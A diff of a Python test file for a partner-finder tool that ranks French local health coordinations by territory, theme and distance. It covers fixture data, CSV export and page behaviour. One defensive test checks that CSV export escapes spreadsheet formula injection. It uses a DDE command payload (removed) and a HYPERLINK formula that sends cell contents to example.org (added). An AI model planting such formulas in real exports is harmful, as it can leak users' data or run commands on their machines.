@@ -1,5 +1,5 @@
-"""The partner finder (app/viewer/partners.py, app/views/partenaires.py): ranking and explanations on a small
-fixture graph whose expected order and reasons are known; the page on the seed build."""
+"""The partner finder (app/viewer/partners.py, app/views/partenaires.py): ranking, distances and explanations on a
+small fixture graph whose expected order and reasons are known; the page on the seed build."""
 
 from __future__ import annotations
 
@@ -9,8 +9,11 @@ import io
 import pyoxigraph as ox
 import pytest
 
+from app.viewer.downloads import BOM
 from app.viewer.model import Viewer
-from app.viewer.partners import PartnerGraph, Proposal, to_csv
+from app.viewer.partners import PartnerGraph, Proposal, code, to_csv
+from graph_builder.referential import geometry
+from maillage.proximity import km
 from maillage.stores import OxigraphStore
 from tests.test_viewer import shown
 
@@ -19,6 +22,10 @@ T = ID + "territoire/"
 
 # Région 93 > départements 13 and 84; EPCI 200054807 (in 13) holds communes 13001 (A) and 13005 (B); 13056 is in
 # 13 only; 84007 and 84031 are in 84. Four coordinations, two actors, one experience, a three-mission matrix.
+# Further away, for distances (real INSEE codes: the points are the project's, graph_builder/referential/geometry):
+# Villeneuve-lès-Avignon (30351, 2 km from Avignon across the Rhône) and Nîmes (30189, 38 km from Avignon) in the
+# Gard; Strasbourg (67482) and Illkirch (67218, 6 km away, an ASV of no theme) in the Bas-Rhin; Lille (59350);
+# Saint-Pierre (97502), which the points do not place.
 FIXTURE = """
 @prefix igeo: <http://rdf.insee.fr/def/geo#> .
 @prefix mlg: <https://w3id.org/maillage/def/core#> .
@@ -42,6 +49,21 @@ t:commune\\/13056 a igeo:Commune ; igeo:codeINSEE "13056" ; igeo:nom "Martigues"
 t:commune\\/84007 a igeo:Commune ; igeo:codeINSEE "84007" ; igeo:nom "Avignon" ; igeo:subdivisionDirecteDe t:departement\\/84 .
 t:commune\\/84031 a igeo:Commune ; igeo:codeINSEE "84031" ; igeo:nom "Carpentras" ;
     igeo:subdivisionDirecteDe t:departement\\/84 .
+t:region\\/76 a igeo:Region ; igeo:codeINSEE "76" ; igeo:nom "Occitanie" .
+t:departement\\/30 a igeo:Departement ; igeo:codeINSEE "30" ; igeo:nom "Gard" ; igeo:subdivisionDirecteDe t:region\\/76 .
+t:commune\\/30351 a igeo:Commune ; igeo:codeINSEE "30351" ; igeo:nom "Villeneuve-lès-Avignon" ;
+    igeo:subdivisionDirecteDe t:departement\\/30 .
+t:commune\\/30189 a igeo:Commune ; igeo:codeINSEE "30189" ; igeo:nom "Nîmes" ; igeo:subdivisionDirecteDe t:departement\\/30 .
+t:region\\/44 a igeo:Region ; igeo:codeINSEE "44" ; igeo:nom "Grand Est" .
+t:departement\\/67 a igeo:Departement ; igeo:codeINSEE "67" ; igeo:nom "Bas-Rhin" ; igeo:subdivisionDirecteDe t:region\\/44 .
+t:commune\\/67482 a igeo:Commune ; igeo:codeINSEE "67482" ; igeo:nom "Strasbourg" ; igeo:subdivisionDirecteDe t:departement\\/67 .
+t:commune\\/67218 a igeo:Commune ; igeo:codeINSEE "67218" ; igeo:nom "Illkirch" ; igeo:subdivisionDirecteDe t:departement\\/67 .
+t:region\\/32 a igeo:Region ; igeo:codeINSEE "32" ; igeo:nom "Hauts-de-France" .
+t:departement\\/59 a igeo:Departement ; igeo:codeINSEE "59" ; igeo:nom "Nord" ; igeo:subdivisionDirecteDe t:region\\/32 .
+t:commune\\/59350 a igeo:Commune ; igeo:codeINSEE "59350" ; igeo:nom "Lille" ; igeo:subdivisionDirecteDe t:departement\\/59 .
+t:departement\\/975 a igeo:Departement ; igeo:codeINSEE "975" ; igeo:nom "Saint-Pierre-et-Miquelon" .
+t:commune\\/97502 a igeo:Commune ; igeo:codeINSEE "97502" ; igeo:nom "Saint-Pierre" ;
+    igeo:subdivisionDirecteDe t:departement\\/975 .
 
 id:theme\\/sante-mentale a mlg:Theme ; skos:prefLabel "Santé mentale"@fr, "Mental health"@en .
 id:mission\\/diagnostic a mlg:Mission ; skos:prefLabel "Diagnostic local de santé"@fr .
@@ -75,6 +97,8 @@ id:coordination\\/clsm-aubagne a mlg:Coordination ; rdfs:label "CLSM d'Aubagne"@
     mlg:coordinationType id:coordination-type\\/CLSM ; mlg:territory t:commune\\/13005 .
 id:coordination\\/cmt-avignon a mlg:Coordination ; rdfs:label "CMT d'Avignon"@fr ;
     mlg:coordinationType id:coordination-type\\/CMT ; mlg:territory t:commune\\/84007 ; mlg:theme id:theme\\/sante-mentale .
+id:coordination\\/asv-illkirch a mlg:Coordination ; rdfs:label "ASV d'Illkirch"@fr ;
+    mlg:coordinationType id:coordination-type\\/ASV ; mlg:territory t:commune\\/67218 .
 id:experience\\/martigues a mlg:FieldExperience ; rdfs:label "Écoute à Martigues"@fr ;
     mlg:carriedOutBy id:coordination\\/cls-13 ; mlg:theme id:theme\\/sante-mentale ; mlg:place t:commune\\/13056 ;
     mlg:contactRole id:role\\/coordonnateur .
@@ -95,8 +119,19 @@ def partners() -> PartnerGraph:
     return PartnerGraph.from_viewer(Viewer(OxigraphStore(store)))
 
 
+@pytest.fixture(scope="module")
+def places() -> geometry.Geometry:
+    return geometry.load(geometry.ensure())
+
+
 def ranked(partners: PartnerGraph, territory: str, **options) -> list[tuple[str, float]]:
     return [(p.iri.rsplit("/", 1)[1], p.score) for p in partners.rank(territory, **options)]
+
+
+def distances(partners: PartnerGraph, territory: str, places, **options) -> list[tuple[str, float, int | None]]:
+    """(name, score, whole kilometres) of each proposal, in the order given."""
+    return [(p.iri.rsplit("/", 1)[1], p.score, None if p.distance is None else round(p.distance))
+            for p in partners.rank(territory, geometry=places, **options)]
 
 
 def reasons(partners: PartnerGraph, territory: str, name: str, **options) -> list[str]:
@@ -105,6 +140,7 @@ def reasons(partners: PartnerGraph, territory: str, name: str, **options) -> lis
 
 
 def test_ranking_by_territory_theme_and_membership(partners):
+    # Without the places' points: what is on the spot first (0 km through the nesting), then the rest by score.
     assert ranked(partners, "commune/13001", concepts=[ID + "theme/sante-mentale"]) == [
         ("asv-aix", 7.0),             # same commune 4 + declares the theme 3
         ("association-aix", 6.0),     # based there 4 + partner of the CLS 1 + the CLS's theme through it 1
@@ -113,6 +149,96 @@ def test_ranking_by_territory_theme_and_membership(partners):
         ("cmt-avignon", 3.0),         # far (another département) but declares the theme 3
         ("poste-clsm", 3.0),          # neighbour 2 + coordinator of the CLSM 1
     ]  # ties by label: « CLSM d'Aubagne » < « CMT d'Avignon » < « Coordination du CLSM »
+
+
+def test_near_ones_first(partners, places):
+    theme = [ID + "theme/sante-mentale"]
+    # Aix: the CMT of Avignon (70 km) now comes after the CLSM's coordinator, of the same score, 28 km away.
+    assert distances(partners, "commune/13001", places, concepts=theme) == [
+        ("asv-aix", 7.0, 0), ("association-aix", 6.0, 0), ("cls-13", 4.5, 0),  # on the spot (nested)
+        ("clsm-aubagne", 3.0, 28), ("poste-clsm", 3.0, 28),                      # within 30 km
+        ("cmt-avignon", 3.0, 70)]                                                # within 100 km
+    # Strasbourg: the ASV of Illkirch, 6 km away and of no theme (score 2.5), comes before the two coordinations
+    # that declare the theme (score 3) 560 and 590 km away, and the CLS with an experience on it.
+    assert distances(partners, "commune/67482", places, concepts=theme) == [
+        ("asv-illkirch", 2.5, 6), ("cmt-avignon", 3.0, 562), ("asv-aix", 3.0, 588), ("cls-13", 2.0, 596)]
+    # Villeneuve-lès-Avignon, in another département and région than Avignon: its CMT is proposed for its nearness
+    # alone, 2 km away; Aix's ASV, 71 km away and on the theme, after it; the CLS of the Bouches-du-Rhône (from the
+    # département's middle, 52 km) has the lower score within 100 km.
+    assert distances(partners, "commune/30351", places, concepts=theme) == [
+        ("cmt-avignon", 4.5, 2), ("asv-aix", 3.0, 71), ("cls-13", 2.0, 52)]
+    assert reasons(partners, "commune/30351", "cmt-avignon", geometry=places)[0] == (
+        "Territoire d'intervention : Avignon (84) — 84007, à 2 km de Villeneuve-lès-Avignon (30) — 30351.")
+    # The distance is the crow flies' between the two points (the town halls).
+    [cmt] = [p for p in partners.rank("commune/30351", geometry=places) if p.iri.endswith("cmt-avignon")]
+    assert cmt.distance == pytest.approx(km(places.point("commune/30351"), places.point("commune/84007")))
+
+
+def test_a_plain_sentence_when_nothing_is_near(partners, places):
+    lille = partners.find("commune/59350", [ID + "theme/sante-mentale"], geometry=places)
+    assert [p.iri.rsplit("/", 1)[1] for p in lille.proposals] == ["cmt-avignon", "asv-aix", "cls-13"]  # far, on the theme
+    assert partners.remark(lille) == ("Aucune coordination connue à moins de 100 km de Lille (59) — 59350 ; la plus "
+                                      "proche : ASV d'Illkirch, à 408 km.")
+    assert partners.remark(lille, "en") == ("No known coordination within 100 km of Lille (59) — 59350; the nearest: "
+                                            "ASV d'Illkirch, 408 km away.")
+    assert partners.find("commune/59350", geometry=places).proposals == []  # nothing at all: the sentence says why
+    # Nîmes: the CMT of Avignon is 38 km away, neither near enough to be proposed for that alone nor on a chosen theme.
+    nimes = partners.find("commune/30189", geometry=places)
+    assert nimes.proposals == [] and partners.remark(nimes) == (
+        "Aucune coordination proposée à moins de 100 km ; la plus proche connue, CMT d'Avignon (à 38 km), ne "
+        "correspond pas à vos choix.")
+    # A territory without a point: said so, and the proposals on the theme come with no distance.
+    far = partners.find("commune/97502", [ID + "theme/sante-mentale"], geometry=places)
+    assert partners.remark(far) == ("La position de Saint-Pierre (975) — 97502 est inconnue : les distances depuis ce "
+                                    "territoire ne peuvent pas être mesurées.")
+    assert [p.distance for p in far.proposals] == [None, None, None]
+    # Near enough: nothing to say. Without the points: nothing measured, nothing said.
+    assert partners.remark(partners.find("commune/13001", geometry=places)) is None
+    assert partners.remark(partners.find("commune/59350")) is None
+
+
+def test_reasons_named_in_place_of_a_score(partners, places):
+    found = {p.iri.rsplit("/", 1)[1]: partners.motifs(p) for p in
+             partners.rank("commune/13001", [ID + "theme/sante-mentale"], geometry=places)}
+    assert found == {
+        "asv-aix": ["même territoire", "thématique partagée"],
+        "association-aix": ["même territoire", "membre d'une coordination proposée"],
+        "cls-13": ["englobe votre territoire", "expérience sur la thématique"],
+        "clsm-aubagne": ["même EPCI", "thématique de son type"],
+        "poste-clsm": ["même EPCI", "membre d'une coordination proposée"],
+        "cmt-avignon": ["thématique partagée"]}
+    [cmt] = [p for p in partners.rank("commune/84031", geometry=places)]
+    assert partners.motifs(cmt) == ["même département", "mission complémentaire"]
+    assert partners.motifs(cmt, "en") == ["same département", "complementary mission"]
+
+
+def test_own_type_changes_the_proposals(partners, places):
+    def seen(own: str | None) -> dict[str, list[str]]:
+        return {p.iri.rsplit("/", 1)[1]: partners.motifs(p) for p in partners.rank(
+            "commune/13001", own_type=own and ID + "coordination-type/" + own, geometry=places)}
+
+    nothing, cls, clsm, cmt = seen(None), seen("CLS"), seen("CLSM"), seen("CMT")
+    assert len({str(nothing), str(cls), str(clsm), str(cmt)}) == 4  # each type its own proposals
+    assert cls["cls-13"] == ["englobe votre territoire", "même type que le vôtre"]
+    assert cls["asv-aix"] == ["même territoire", "mission complémentaire"]  # the ASV's row has the accompaniment
+    assert cls["clsm-aubagne"] == ["même EPCI", "thématique complémentaire"]
+    assert clsm["clsm-aubagne"] == ["même EPCI", "même type que le vôtre"]
+    assert clsm["asv-aix"] == ["même territoire"]  # no row for a CLSM in the matrix: no mission said complementary
+    assert reasons(partners, "commune/13001", "clsm-aubagne", own_type=ID + "coordination-type/CLS") == [
+        "Territoire d'intervention : Aubagne (13) — 13005, comme Aix (13) — 13001 dans Métropole — EPCI 200054807.",
+        "Son type (Conseil local de santé mentale) travaille la thématique « Santé mentale », que votre type "
+        "(Contrat local de santé) ne compte pas parmi les siennes."]
+    assert reasons(partners, "commune/13001", "cls-13", own_type=ID + "coordination-type/CLS")[1] == (
+        "Même type que le vôtre (Contrat local de santé) : un pair avec qui échanger sur vos pratiques.")
+    assert partners.own_type_note(ID + "coordination-type/CLSM").startswith(
+        "La matrice des missions ne dit rien de votre type (Conseil local de santé mentale) : aucune mission ne peut "
+        "être dite complémentaire.")
+    assert partners.own_type_note(ID + "coordination-type/ASV").startswith(
+        "D'après la matrice des missions, votre type (Atelier santé ville) a toutes ses missions (« Accompagnement "
+        "méthodologique », « Diagnostic local de santé », « Programme d'actions ») : aucune ne lui manque.")
+    assert partners.own_type_note(ID + "coordination-type/CMT").startswith(
+        "D'après la matrice des missions, votre type (Conseiller méthodologique de territoire) a : « Accompagnement "
+        "méthodologique ».")
 
 
 def test_each_reason_is_a_path_of_the_graph(partners):
@@ -174,23 +300,33 @@ def test_contact_is_a_role_never_a_person(partners):
     assert found["association-aix"] == "Partenaire — CLS des Bouches-du-Rhône"
 
 
-def test_csv_export(partners):
-    proposals = partners.rank("commune/13001", [ID + "theme/sante-mentale"])
-    rows = list(csv.reader(io.StringIO(to_csv(partners, proposals))))
-    assert rows[0] == ["rang", "genre", "nom", "identifiant", "score", "raisons", "contact"]
-    assert rows[1] == ["1", "coordination", "ASV d'Aix", "coordination/asv-aix", "7",
+def read_csv(data: bytes) -> list[list[str]]:
+    """A CSV as French Excel reads it: UTF-8 after its byte order mark, `;` between cells."""
+    text = data.decode("utf-8")
+    assert text.startswith(BOM)
+    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
+
+
+def test_csv_export(partners, places):
+    proposals = partners.rank("commune/13001", [ID + "theme/sante-mentale"], geometry=places)
+    rows = read_csv(to_csv(partners, proposals))
+    assert rows[0] == ["rang", "genre", "nom", "identifiant", "distance (km)", "motifs", "raisons", "contact"]
+    assert rows[1] == ["1", "coordination", "ASV d'Aix", "coordination/asv-aix", "0",
+                       "même territoire, thématique partagée",
                        "Territoire d'intervention : Aix (13) — 13001, le territoire choisi. | "
                        "Travaille la thématique « Santé mentale ».", "Coordonnateur"]
     assert [r[2] for r in rows[1:]][:3] == ["ASV d'Aix", "Association d'Aix", "CLS des Bouches-du-Rhône"]
+    assert [r[4] for r in rows[1:]] == ["0", "0", "0", "28", "28", "70"]
     assert rows[2][1] == "acteur" and len(rows) == 7
-    english = list(csv.reader(io.StringIO(to_csv(partners, proposals, "en"))))
-    assert english[0][:3] == ["rank", "kind", "name"] and english[2][1] == "actor"
+    english = read_csv(to_csv(partners, proposals, "en"))
+    assert english[0][:5] == ["rank", "kind", "name", "id", "distance (km)"] and english[2][1] == "actor"
+    assert read_csv(to_csv(partners, partners.rank("commune/13001")))[4][4] == ""  # no points: distance unknown
 
 
 def test_csv_export_runs_no_formula_from_a_label(partners):
-    hostile = Proposal(ID + "acteur/x", "actor", "=cmd|' /C calc'!A0")
-    rows = list(csv.reader(io.StringIO(to_csv(partners, [hostile]))))
-    assert rows[1][2] == "'=cmd|' /C calc'!A0" and rows[1][4] == "0"
+    hostile = Proposal(ID + "acteur/x", "actor", '=HYPERLINK("http://example.org/?"&A1;"Cliquez")')
+    rows = read_csv(to_csv(partners, [hostile]))
+    assert rows[1][2] == '\'=HYPERLINK("http://example.org/?"&A1;"Cliquez")' and rows[1][4] == ""
 
 
 def test_concept_choices_and_codes(partners):
@@ -228,3 +364,32 @@ def test_page_in_english(app):  # noqa: F811
     at = app("partenaires", lang="en", territory="departement/67", themes="sante-mentale")
     assert at.title[0].value == "Find partners"
     assert "Works in: Strasbourg (67) — 67482, within Bas-Rhin — Département 67." in shown(at)
+    assert at.query_params["lang"] == "en"  # the page's own parameters leave the language in the address
+
+
+def test_a_shared_link_fills_every_field(app):  # noqa: F811
+    link = {"territory": "commune/93066", "themes": ["nutrition", "sante-mentale"],
+            "determinants": "facteurs-individuels", "axes": "politiques-publiques", "type": "CLS"}
+    at = app("partenaires", **link)
+    assert at.text_input(key="partner_search").value == "Saint-Denis"
+    # Saint-Denis (93) stays chosen though the Aude's Saint-Denis (11) may come first in a search for the name.
+    [territory] = [s for s in at.selectbox if s.label == "Territoire"]
+    assert territory.value.key == "commune/93066"
+    assert [code(i) for i in at.multiselect(key="partner_themes").value] == ["nutrition", "sante-mentale"]
+    assert [code(i) for i in at.multiselect(key="partner_determinants").value] == ["facteurs-individuels"]
+    assert [code(i) for i in at.multiselect(key="partner_axes").value] == ["politiques-publiques"]
+    assert code(at.selectbox(key="partner_type").value) == "CLS"
+    assert {k: at.query_params[k] for k in link} == link  # and the address is the link again
+    assert "Partenaires proposés pour Saint-Denis (93) — 93066" in shown(at)
+
+
+def test_page_shows_distance_reasons_and_own_type(app):  # noqa: F811
+    at = app("partenaires", territory="commune/13001", themes="sante-mentale", type="CLSM")
+    captions = [c.value for c in at.caption]
+    # The ASV of Aix-en-Provence: on the spot, the theme through its type, and its type's themes a CLSM lacks.
+    assert "Sur place · Motifs : même territoire, thématique de son type, thématique complémentaire · Contact : " \
+           "Coordonnateur" in captions
+    assert any(c.startswith("À 588 km · Motifs : expérience sur la thématique") for c in captions)  # far, after
+    assert not any("score" in c for c in captions)
+    assert at.info[0].value.startswith("La matrice des missions ne dit rien de votre type (Conseil local de santé "
+                                       "mentale)")
